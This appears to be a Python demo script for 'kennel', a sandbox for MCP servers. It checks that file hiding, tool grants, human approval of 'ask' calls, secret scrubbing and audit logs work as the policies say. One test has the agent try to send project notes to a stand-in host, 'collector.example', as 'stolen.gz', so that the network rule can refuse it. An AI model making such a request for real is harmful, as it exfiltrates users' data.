#!/usr/bin/env python3
"""make demo: an agent's session with two real servers in their cells, shown line by line.

Runs as an ordinary user where it can: started as root it makes one for itself
and takes it away again at the end.
"""
import fcntl
import json
import os
import pty
import socketserver
import struct
import subprocess
import sys
import termios
import textwrap
import threading

HERE = os.path.dirname(os.path.abspath(__file__))
sys.dont_write_bytecode = True


WIDTH = 80


def show(mark, text):
    """Text of a program after its mark, in lines of a terminal of 80 columns."""
    for line in str(text).rstrip("\n").split("\n"):
        first = True
        while first or line:
            room = WIDTH - 3 - len(mark)
            cut = room if len(line) <= room else max(line.rfind(" ", 1, room + 1), 0) or room
            print("  %s %s" % (mark if first else " " * len(mark), line[:cut]), flush=True)
            line, first = line[cut:].lstrip(" "), False


def say(text):
    """Why the next step is shown."""
    for line in textwrap.wrap(text, WIDTH):
        print(line, flush=True)


def title(text):
    print("\n\033[1m%s\033[0m" % text if sys.stdout.isatty() else "\n" + text, flush=True)


# ---- the outer half: stage, user, clean up ------------------------------------------

def outer():
    sys.path.insert(0, HERE + "/..")
    sys.path.insert(0, HERE + "/../lib")
    import kit
    import run as runner
    kit.be_subreaper()
    user = runner.User()
    stage = runner.Stage(user)
    try:
        stage.fill()
        tmp = stage.folder("demo", user.uid, user.gid)
        env = {"KT_STAGE": stage.path, "KT_TMP": tmp, "KT_AS": "user", "KT_UID": str(user.uid),
               "KENNEL_HOME": tmp + "/home", "HOME": tmp, "PATH": "/usr/local/bin:/usr/bin:/bin",
               "LANG": "C.UTF-8", "TMPDIR": tmp, "PYTHONDONTWRITEBYTECODE": "1"}
        python = sys.executable if os.path.realpath(sys.executable).startswith("/usr/") else "/usr/bin/python3"
        status = subprocess.call(user.prefix() + [python, stage.path + "/tests/demo/demo.py", "--inner"],
                                 env=env, cwd="/")
        kit.wait_for(lambda: (kit.reap(), not kit.descendants(os.getpid()))[1], 12)
        left = kit.descendants(os.getpid())
        for pid in left:
            os.kill(pid, 9)
        if left:
            print("left behind:", left)
            status = status or 1
    finally:
        stage.remove()
        user.remove()
    return status


# ---- the inner half: the session -----------------------------------------------------

TOKEN = "ghp_demo%d5Zq7TtW" % os.getpid()


def short(text):
    import kit
    return text.replace(kit.MODULES, "$MODULES").replace(kit.TMP, "$DEMO")


def answer(m):
    """Shows what the agent gets."""
    if "error" in m:
        show("agent <", "error %d: %s" % (m["error"]["code"], short(m["error"]["message"])))
        return m
    r = m["result"]
    if "tools" in r:
        show("agent <", "%d tools: %s" % (len(r["tools"]), " ".join(t["name"] for t in r["tools"])))
    for c in r.get("content", []):
        if c["type"] == "text":
            show("agent <", " ".join(short(c["text"]).split()))
        elif c["type"] == "resource_link":
            show("agent <", "a link to %s, %s" % (c["uri"], c["mimeType"]))
    return m


def call(s, tool, **arguments):
    show("agent >", short("%s %s" % (tool, json.dumps(arguments))))
    return answer(s.request("tools/call", {"name": tool, "arguments": arguments}))


def call_later(s, tool, **arguments):
    """Sends the call and does not wait; its id."""
    s.n += 1
    show("agent >", short("%s %s" % (tool, json.dumps(arguments))))
    s.send({"jsonrpc": "2.0", "id": s.n, "method": "tools/call", "params": {"name": tool, "arguments": arguments}})
    return s.n


def command(*words, stdin=b""):
    """Runs kennel on a terminal of 78 columns, as a person would; its status and text."""
    import kit
    show("$", short("kennel " + " ".join(words)))
    master, slave = pty.openpty()
    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 24, WIDTH - 2, 0, 0))
    p = subprocess.Popen([kit.KENNEL] + list(words), stdin=subprocess.PIPE, stdout=slave, stderr=subprocess.STDOUT,
                         env=kit.environment({"NO_COLOR": "1", "KENNEL_PAGER": "", "PAGER": "cat"}))
    os.close(slave)
    p.stdin.write(stdin)
    p.stdin.close()
    text = b""
    try:
        while True:
            part = os.read(master, 65536)
            if not part:
                break
            text += part
    except OSError:  # the last process closed the terminal
        pass
    os.close(master)
    p.wait()
    text = text.decode(errors="replace").replace("\r\n", "\n")
    for line in short(text).splitlines():
        for i in range(0, len(line) or 1, WIDTH - 2):
            print("  " + line[i:i + WIDTH - 2], flush=True)
    return p.returncode, text


class Host(socketserver.StreamRequestHandler):
    """A web server on this machine's loopback: the one host that is granted."""

    def handle(self):
        while self.rfile.readline().strip():
            pass
        self.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Length: 12\r\nConnection: close\r\n\r\nwoof, woof.\n")


def host():
    """Starts it; its port."""
    server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Host)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server.server_address[1]


def policies(kit, work, port):
    """What each server may do; everything else is denied."""
    everything = kit.MODULES + "/@modelcontextprotocol/server-everything/dist/index.js"
    files = kit.MODULES + "/@modelcontextprotocol/server-filesystem/dist/index.js"
    w = kit.words
    user = '    user  "%d"\n' % kit.UID if os.geteuid() == 0 else ""
    return {"files": """server files {
    run   %s \\
          %s \\
          %s
    read  %s
%s    write %s
    hide  %s
    tool  allow read_text_file write_file list_directory
    tool  ask move_file because "moves are reviewed"
}
""" % (w(kit.NODE), w(files), w(work), w(kit.MODULES), user, w(work), w(work + "/private")),
            "everything": """server everything {
    run    %s \\
           %s
    read   %s
%s    secret API_TOKEN from env DEMO_TOKEN
    tool   allow get-env gzip-file-as-resource
    net    allow localhost:%d to loopback plain
}
""" % (w(kit.NODE), w(everything), w(kit.MODULES), user, port),
            "shell": """server shell {
    run   /bin/sh **
    exec  allow /bin/echo **
    read  /usr/bin
%s}
""" % user}


class Demo:
    """The session, and what of it was not as expected."""

    def __init__(self, kit):
        self.kit = kit
        self.failed = []
        self.work = kit.TMP + "/project"
        self.policy = kit.HOME + "/policies/%s.kennel"

    def expect(self, ok, what):
        if not ok:
            self.failed.append(what)
            show("!!", "NOT AS EXPECTED: " + what)

    def prepare(self, port):
        os.makedirs(self.work + "/private", mode=0o755)
        os.makedirs(self.kit.HOME + "/policies", mode=0o700, exist_ok=True)
        for name, text in (("notes.txt", "Notes of the project.\n"), ("private/password.txt", "hunter2\n")):
            with open(self.work + "/" + name, "w") as f:
                f.write(text)
        if os.geteuid() == 0:
            for path in ("", "/notes.txt", "/private", "/private/password.txt"):
                os.chown(self.work + path, self.kit.UID, -1)
        for name, text in policies(self.kit, self.work, port).items():
            with open(self.policy % name, "w") as f:
                f.write(text)

    def session(self, name, env=None):
        s = self.kit.Mcp([self.kit.KENNEL, "run", name], env=env)
        show("agent >", "starts `kennel run %s`" % name)
        m = s.initialize()
        self.expect("result" in m, "initialize of " + name)
        if "result" in m:
            show("agent <", "%s %s" % tuple(m["result"]["serverInfo"][k] for k in ("name", "version")))
        return s

    def files(self):
        title("1. A server gets what its policy says")
        for line in open(self.policy % "files"):
            show("|", short(line.rstrip()))
        say("The agent's configuration says `kennel run files`. It sees the granted tools:")
        s = self.session("files")
        answer(s.request("tools/list", {}))
        m = call(s, "read_text_file", path=self.work + "/notes.txt")
        self.expect("Notes" in json.dumps(m), "reading a granted file")
        say("A directory that the policy hides, and a tool that it does not name:")
        m = call(s, "read_text_file", path=self.work + "/private/password.txt")
        self.expect("hunter2" not in json.dumps(m), "the hidden file stays hidden")
        m = call(s, "edit_file", path=self.work + "/notes.txt", edits=[])
        self.expect("error" in m or m["result"].get("isError"), "an ungranted tool is refused")
        return s

    def waiting(self):
        """The ids of what waits for a person."""
        r = self.kit.run([self.kit.KENNEL, "approve", "list", "--json"])
        return [json.loads(line)["id"] for line in r.stdout.splitlines()]

    def asks(self, s):
        title("2. A person decides where the policy says `ask`")
        target = {"source": self.work + "/notes.txt", "destination": self.work + "/old.txt"}
        n = call_later(s, "move_file", **target)
        self.expect(self.kit.wait_for(self.waiting, 30), "the call waits for a person")
        say("The server knows nothing of this call yet. In another terminal:")
        command("approve", "list")
        status, _ = command("approve", "allow", (self.waiting() + ["none"])[0])
        m = answer(s.wait(n, 30))
        self.expect(status == 0 and os.path.exists(target["destination"]) and not m["result"].get("isError"),
                    "an approved call is made")
        n = call_later(s, "move_file", source=target["destination"], destination=self.work + "/new.txt")
        self.expect(self.kit.wait_for(self.waiting, 30), "the second call waits")
        status, _ = command("approve", "deny", (self.waiting() + ["none"])[0])
        m = answer(s.wait(n, 30))
        self.expect(status == 0 and os.path.exists(target["destination"]) and m["result"].get("isError"),
                    "a denied call is not made")
        s.close()

    def secrets(self, port):
        title("3. A secret that the server has, and cannot repeat")
        s = self.session("everything", env={"DEMO_TOKEN": TOKEN, "OTHER_SECRET": "not for servers"})
        say("This tool prints the server's environment. The agent's has another secret too:")
        m = call(s, "get-env")
        self.expect(TOKEN not in json.dumps(m) and "***" in json.dumps(m), "the secret is scrubbed")
        self.expect("OTHER_SECRET" not in json.dumps(m), "only the granted variables arrive")
        title("4. A host that is granted, and one that is not")
        m = call(s, "gzip-file-as-resource", name="notes.gz", data="http://localhost:%d/notes.txt" % port)
        self.expect("resource_link" in json.dumps(m), "a granted host is reached")
        m = call(s, "gzip-file-as-resource", name="stolen.gz", data="http://collector.example/?notes")
        self.expect("error" in m or m["result"].get("isError"), "another host is refused")
        s.close()

    def programs(self):
        title("5. A program that nothing grants does not start")
        for argv, wanted in (("/bin/echo granted", 0), ("/usr/bin/env", 126)):
            status, _ = command("exec", "--policy", self.policy % "shell", "shell", "--", "/bin/sh", "-c", argv)
            self.expect(status == wanted, "exec of " + argv)
        say("Why? Any request can be tried on a policy, and the answer names the line:")
        status, text = command("policy", "explain", self.policy % "files", "files", "read",
                               self.work + "/private/password.txt")
        self.expect(status == 1 and "hide" in text, "explain names the line that hides")

    def log(self):
        title("6. The log: what happened, and that nobody changed it")
        stopped = self.kit.wait_for(lambda: sum('"stop"' in json.dumps(e) for e in self.kit.audit()) >= 4, 10)
        self.expect(stopped, "the sessions' ends are in the log")
        for verb, wanted in (("denials", "no grant names this file"), ("who-approved", "once")):
            status, text = command("audit", verb)
            self.expect(status == 0 and wanted in text, "audit %s says %s" % (verb, wanted))
        say("Was the token used, and where? The value is read from standard input here:")
        status, text = command("audit", "find-secret", "--stdin", stdin=TOKEN.encode())
        self.expect(status == 0 and "API_TOKEN" in text, "find-secret finds the token's use")
        r = self.kit.run([self.kit.KENNEL, "audit", "find-secret", "--stdin"], stdin=TOKEN + "x")
        self.expect(b"API_TOKEN" not in r.stdout, "find-secret does not find another value")
        status, text = command("audit", "verify")
        self.expect(status == 0 and "intact" in text, "audit verify")
        for folder, _, names in os.walk(self.kit.HOME):
            for name in names:
                self.expect(TOKEN.encode() not in self.kit.reads(folder + "/" + name), "the token is in " + name)
        say("No file of kennel's contains the token; the demo has just looked.")


NOW_TRY = """
Now try:
  sudo make install                     # kennel, its manual and completions
  kennel doctor                         # what this machine can enforce
  kennel init NAME -- COMMAND ...       # draft a policy for a server of yours
  kennel list                           # the servers that have a policy
  man 5 kennel-policy                   # the language of policies
"""


def inner():
    sys.path.insert(0, HERE + "/../lib")
    import kit
    demo = Demo(kit)
    port = host()
    demo.prepare(port)
    who = "root" if os.geteuid() == 0 else "an ordinary user (uid %d)" % os.geteuid()
    title("kennel: two real MCP servers in their cells, as %s" % who)
    demo.asks(demo.files())
    demo.secrets(port)
    demo.programs()
    demo.log()
    kit.end_all()
    if demo.failed:
        title("The demo did not go as expected: " + "; ".join(demo.failed))
        return 1
    title("All as the policies say.")
    print(NOW_TRY, end="", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(inner() if sys.argv[1:] == ["--inner"] else outer())
